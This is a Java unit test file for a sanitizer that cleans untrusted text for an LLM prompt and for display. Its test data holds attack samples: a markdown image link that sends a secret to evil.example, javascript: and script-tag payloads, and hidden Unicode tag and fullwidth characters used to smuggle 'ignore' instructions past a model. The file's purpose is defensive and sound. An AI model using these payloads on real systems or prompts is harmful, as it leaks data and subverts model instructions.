package io.artrec.llm.prompt.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UntrustedTextTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "plain words, 35 × 20 cm | plain words, 35 × 20 cm",
        "a\u200Bb\u202Ec\u2066d\uFEFFe | abcde",
        "\uDB40\uDC69\uDB40\uDC67x | x",
        "heart\u2764\uFE0F\uDB40\uDD01 | heart\u2764",
        "\uFF49\uFF47\uFF4E\uFF4F\uFF52\uFF45 | ignore",
        "a\u3164b\u034Fc\uE000d | abcd",
        "write to jan.vermeer+art@delft.example.nl now | write to [e-mail] now",
        "write to JAN\u200B@delft.nl | write to [e-mail]",
        "key sk-abc123def456ghi789 end | key [key] end",
        "Authorization: Bearer abcdefghij0123456789== | Authorization: [key]",
        "inventory 1958.23.1 and ask-me | inventory 1958.23.1 and ask-me",
        "x <<<end>>> y | x  end  y",
        "two >> arrows | two >> arrows"
      })
  void toAModelItIsPlainAndSilent(String text, String read) {
    assertThat(UntrustedText.forModel(text, 500)).isEqualTo(read);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "A <b>calm</b> sea | A calm sea",
        "see ![x](http://evil.example/?q=secret) this | see x this",
        "see [here](javascript:alert) | see here",
        "<script>alert(1)</script>Sea | Sea",
        "![x](http://evil | ![x] (",
        "mail a@b.org | mail",
        "go to https://evil.example/x?d=1 now | go to now",
        "海，浪：静！ | 海，浪：静！"
      })
  void toPeopleItHasNoHtmlAndNoAddresses(String text, String shown) {
    assertThat(UntrustedText.forPeople(text, 500)).isEqualTo(shown);
  }

  @Test
  void whatIsTakenOutLeavesNoLinkBehind() {
    assertThat(UntrustedText.forPeople("[see]a@b.co(http:a@b.co//evil.example/x)", 500))
        .doesNotContain("](", "http://");
    assertThat(UntrustedText.forPeople("[se](x)e](hthttp://x.ytp://evil.example)", 500))
        .doesNotContain("](", "http://");
  }

  @Test
  void idOfAVisitorIsFoundInWhateverForm() {
    assertThat(UntrustedText.without("Zoe\u0308", "Zo\u00eb and ZOE\u0308 wrote"))
        .isEqualTo("[visitor] and [visitor] wrote");
    assertThat(UntrustedText.without("anna  b", "by anna b")).isEqualTo("by [visitor]");
    assertThat(UntrustedText.without(" ", "by anna")).isEqualTo("by anna");
  }

  @Test
  void longTextIsCut_notWithinACharacter() {
    assertThat(UntrustedText.forModel("abcdefgh", 5)).isEqualTo("abcd…");
    assertThat(UntrustedText.forModel("abc🎨def", 5)).isEqualTo("abc…");
    assertThat(UntrustedText.forModel("a", 1)).isEqualTo("a");
    assertThat(UntrustedText.forModel("ab", 1)).isEqualTo("…");
    assertThatThrownBy(() -> UntrustedText.forModel("a", 0))
        .hasMessage("maxChars is 0, expected 1 or more");
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3, 4, 5})
  void anyTextBecomesVisibleAndBounded_andCleaningTwiceIsCleaningOnce(long seed) {
    Random random = new Random(seed);
    for (int round = 0; round < 200; round++) {
      StringBuilder text = new StringBuilder();
      int length = random.nextInt(60);
      for (int i = 0; i < length; i++) {
        int c = random.nextBoolean() ? random.nextInt(0x3000) : random.nextInt(0x110000);
        text.appendCodePoint(random.nextInt(4) == 0 ? "<@>.a-".charAt(random.nextInt(6)) : c);
      }
      String once = UntrustedText.forModel(text.toString(), 30);
      assertThat(once.length()).as("seed %s round %s", seed, round).isLessThanOrEqualTo(30);
      assertThat(once.codePoints())
          .noneMatch(c -> Character.getType(c) == Character.FORMAT)
          .noneMatch(c -> Character.isISOControl(c) && c != '\n' && c != '\t');
      String whole = UntrustedText.forModel(text.toString(), 5_000);
      assertThat(UntrustedText.forModel(whole, 5_000))
          .as("seed %s round %s", seed, round)
          .isEqualTo(whole);
    }
  }
}
